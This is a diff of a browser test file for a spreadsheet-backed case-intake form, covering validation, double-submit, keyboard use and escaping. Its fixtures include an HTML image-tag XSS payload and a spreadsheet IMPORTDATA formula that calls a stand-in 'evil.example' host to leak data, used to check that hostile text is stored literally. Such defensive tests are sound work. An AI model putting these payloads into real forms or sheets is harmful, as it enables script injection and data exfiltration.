@@ -4,36 +4,24 @@
  * keyboard-only use. Screenshots go to test-output/screenshots/.
  */
 import type { Page } from 'playwright-core';
-import { clickMenuItem, createWorkspace, Execution, openSpreadsheet, type Workspace } from '../../emulator';
+import type { Workspace } from '../../emulator';
 import { eventually, type OpenedPage } from '../../emulator/browser/page-harness';
-import { createServiceGlobals } from '../../emulator/globals';
+import { OPS, tracker } from '../support/intake-tracker';
 import { screenshotPath, useBrowser } from './support';
 
 jest.setTimeout(40_000);
-const OWNER = 'lead@governance.example';
-const OPS = 'ana.ops@governance.example';
 const HOSTILE = '<img src=x onerror=alert(1)>';
 const FORMULA = '=IMPORTDATA("https://evil.example/leak")';
 const browser = useBrowser();
 let opened: OpenedPage | null = null;
 
-function tracker() {
-  const ws = createWorkspace({ users: [{ email: OWNER }, { email: OPS }] });
-  const spreadsheetId = ws.createSpreadsheet({ name: 'Tracker', owner: OWNER }).id;
-  ws.shareSpreadsheet(spreadsheetId, OPS);
-  openSpreadsheet(ws, { user: OWNER, spreadsheetId });
-  clickMenuItem(ws, { user: OWNER, spreadsheetId, caption: 'Set up tracker' });
-  return { ws, spreadsheetId };
-}
+type Tracker = ReturnType<typeof tracker>;
 
-function casesSheet(ws: Workspace, spreadsheetId: string) {
-  const exec = new Execution(ws, { user: OWNER, authMode: 'FULL', activeSpreadsheetId: spreadsheetId });
-  const { SpreadsheetApp } = createServiceGlobals(exec) as {
-    SpreadsheetApp: GoogleAppsScript.Spreadsheet.SpreadsheetApp;
+function casesSheet(ctx: Tracker) {
+  return {
+    cases: ctx.cases,
+    cell: (row: number, header: string) => ctx.cases.getRange(row, ctx.column(header)),
   };
-  const cases = SpreadsheetApp.getActiveSpreadsheet().getSheetByName('Cases')!;
-  const headers = cases.getRange(1, 1, 1, cases.getLastColumn()).getValues()[0] as string[];
-  return { cases, cell: (row: number, header: string) => cases.getRange(row, headers.indexOf(header) + 1) };
 }
 
 async function open(ws: Workspace, spreadsheetId: string, replyDelayMs = 0): Promise<Page> {
@@ -62,7 +50,8 @@ async function fillValid(page: Page, summary = 'Replica sneakers sold as origina
 }
 
 test('the form is built from the schema with labelled controls; fill and submit shows the confirmation and the row', async () => {
-  const { ws, spreadsheetId } = tracker();
+  const ctx = tracker();
+  const { ws, spreadsheetId } = ctx;
   const page = await open(ws, spreadsheetId);
   const labelled = await page
     .locator('input, select, textarea')
@@ -78,7 +67,7 @@ test('the form is built from the schema with labelled controls; fill and submit 
   await page.locator('#state-success').waitFor();
   await expect(page.locator('#success-case').textContent()).resolves.toBe('CB-2026-00001');
   await page.screenshot({ path: screenshotPath('intake-success'), fullPage: true });
-  const { cell } = casesSheet(ws, spreadsheetId);
+  const { cell } = casesSheet(ctx);
   expect(cell(2, 'Seller ID').getValue()).toBe('S-4711');
   expect(cell(2, 'Created by').getValue()).toBe(OPS);
   // The form is reset for the next case, keeping the market.
@@ -87,7 +76,8 @@ test('the form is built from the schema with labelled controls; fill and submit 
 });
 
 test('every kind of invalid input shows its message beside its field, and nothing is saved', async () => {
-  const { ws, spreadsheetId } = tracker();
+  const ctx = tracker();
+  const { ws, spreadsheetId } = ctx;
   const page = await open(ws, spreadsheetId);
   await fillValid(page);
   await page.getByLabel('Seller ID').fill('seller #9');
@@ -108,12 +98,14 @@ test('every kind of invalid input shows its message beside its field, and nothin
   await expect(page.locator('#field-sellerId').getAttribute('aria-invalid')).resolves.toBe('true');
   await expect(page.locator('#form-errors').textContent()).resolves.toBe('5 fields need fixing.');
   await page.screenshot({ path: screenshotPath('intake-errors'), fullPage: true });
-  expect(opened?.serverCalls).toEqual(['getIntakeOptions']);
-  expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(1);
+  // The duplicate check may have asked while typing; nothing was submitted.
+  expect(opened?.serverCalls.filter((name) => name !== 'findDuplicates')).toEqual(['getIntakeOptions']);
+  expect(casesSheet(ctx).cases.getLastRow()).toBe(1);
 });
 
 test('a double-clicked submit creates one case (the button is disabled while saving)', async () => {
-  const { ws, spreadsheetId } = tracker();
+  const ctx = tracker();
+  const { ws, spreadsheetId } = ctx;
   const page = await open(ws, spreadsheetId, 400);
   await fillValid(page);
   const save = page.getByRole('button', { name: 'Save case' });
@@ -121,25 +113,27 @@ test('a double-clicked submit creates one case (the button is disabled while sav
   await expect(save.isDisabled()).resolves.toBe(true);
   await page.locator('#state-success').waitFor();
   await eventually(() => opened?.serverCalls.filter((c) => c === 'submitCase').length === 1);
-  expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(2);
+  expect(casesSheet(ctx).cases.getLastRow()).toBe(2);
 });
 
 test('hostile text round-trips as literal text in the page and in the cell', async () => {
-  const { ws, spreadsheetId } = tracker();
+  const ctx = tracker();
+  const { ws, spreadsheetId } = ctx;
   const page = await open(ws, spreadsheetId);
   await fillValid(page, `${FORMULA} ${HOSTILE}`);
   await page.getByLabel('Shop name').fill(HOSTILE);
   await page.getByRole('button', { name: 'Save case' }).click();
   await page.locator('#state-success').waitFor();
   await expect(page.locator('img').count()).resolves.toBe(0);
-  const { cell } = casesSheet(ws, spreadsheetId);
+  const { cell } = casesSheet(ctx);
   expect(cell(2, 'Summary').getValue()).toBe(`${FORMULA} ${HOSTILE}`);
   expect(cell(2, 'Summary').getFormula()).toBe('');
   expect(cell(2, 'Shop name').getValue()).toBe(HOSTILE);
 });
 
 test('keyboard only: Tab through the fields and Enter submits', async () => {
-  const { ws, spreadsheetId } = tracker();
+  const ctx = tracker();
+  const { ws, spreadsheetId } = ctx;
   const page = await open(ws, spreadsheetId);
   await fillValid(page);
   await page.getByLabel('Summary').focus();
@@ -148,5 +142,5 @@ test('keyboard only: Tab through the fields and Enter submits', async () => {
   await page.getByLabel('Seller ID').focus();
   await page.keyboard.press('Enter');
   await page.locator('#state-success').waitFor();
-  expect(casesSheet(ws, spreadsheetId).cases.getLastRow()).toBe(2);
+  expect(casesSheet(ctx).cases.getLastRow()).toBe(2);
 });
